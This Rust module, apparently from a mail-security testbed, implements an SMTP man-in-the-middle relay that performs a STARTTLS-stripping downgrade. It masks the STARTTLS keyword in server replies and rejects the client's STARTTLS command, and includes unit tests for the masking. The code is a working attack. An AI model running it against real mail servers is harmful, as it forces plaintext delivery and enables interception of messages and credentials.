//! A man in the middle: relays to a sound MX host and takes STARTTLS out of what it offers.

use crate::seen::SeenLog;
use std::io;
use std::net::{Ipv4Addr, SocketAddr};
use tokio::io::{AsyncBufReadExt, AsyncWriteExt, BufReader};
use tokio::net::TcpStream;

/// The attacker at one address.
pub(crate) struct Attacker {
    pub(crate) address: Ipv4Addr,
    /// The MX host behind him.
    pub(crate) victim: Ipv4Addr,
}

impl Attacker {
    /// One connection, until either side leaves.
    pub(crate) async fn serve(&self, client: TcpStream, smtp_port: u16, seen: &SeenLog) {
        // Whoever leaves first ends it.
        let _ = self.relay(client, smtp_port, seen).await;
    }

    async fn relay(&self, client: TcpStream, smtp_port: u16, seen: &SeenLog) -> io::Result<()> {
        let server = TcpStream::connect(SocketAddr::from((self.victim, smtp_port))).await?;
        let (client_read, mut client_write) = client.into_split();
        let (server_read, mut server_write) = server.into_split();
        let mut from_client = BufReader::new(client_read);
        let mut from_server = BufReader::new(server_read);
        let (mut command, mut reply) = (Vec::new(), Vec::new());
        loop {
            tokio::select! {
                // `read_until` keeps what it has read so far when the other side is faster.
                read = from_client.read_until(b'\n', &mut command) => {
                    if read? == 0 {
                        return Ok(());
                    }
                    seen.command(self.address, false, command.trim_ascii_end());
                    if command.to_ascii_uppercase().starts_with(b"STARTTLS") {
                        client_write.write_all(b"502 5.5.2 Command not recognized\r\n").await?;
                    } else {
                        server_write.write_all(&command).await?;
                    }
                    command.clear();
                }
                read = from_server.read_until(b'\n', &mut reply) => {
                    if read? == 0 {
                        return Ok(());
                    }
                    client_write.write_all(&stripped(&reply)).await?;
                    reply.clear();
                }
            }
        }
    }
}

/// The reply line as the victim's client gets to see it: as long as before, so that nothing
/// shows on the wire but the letters.
fn stripped(line: &[u8]) -> Vec<u8> {
    let keyword = line.get(4..).unwrap_or_default().trim_ascii_end();
    if keyword.eq_ignore_ascii_case(b"STARTTLS") {
        [&line[..4], b"XXXXXXXA", &line[4 + keyword.len()..]].concat()
    } else {
        line.to_vec()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_the_keyword_is_taken_out() {
        let table: &[(&[u8], &[u8], &str)] = &[
            (b"250-STARTTLS\r\n", b"250-XXXXXXXA\r\n", "in the middle"),
            (b"250 starttls\r\n", b"250 XXXXXXXA\r\n", "last, in lower case"),
            (b"250-SIZE 1000\r\n", b"250-SIZE 1000\r\n", "another keyword"),
            (b"220 STARTTLS.example ESMTP\r\n", b"220 STARTTLS.example ESMTP\r\n", "a name"),
            (b"25", b"25", "a short line"),
        ];
        for (line, expected, reason) in table {
            assert_eq!(stripped(line), *expected, "{reason}");
        }
    }
}
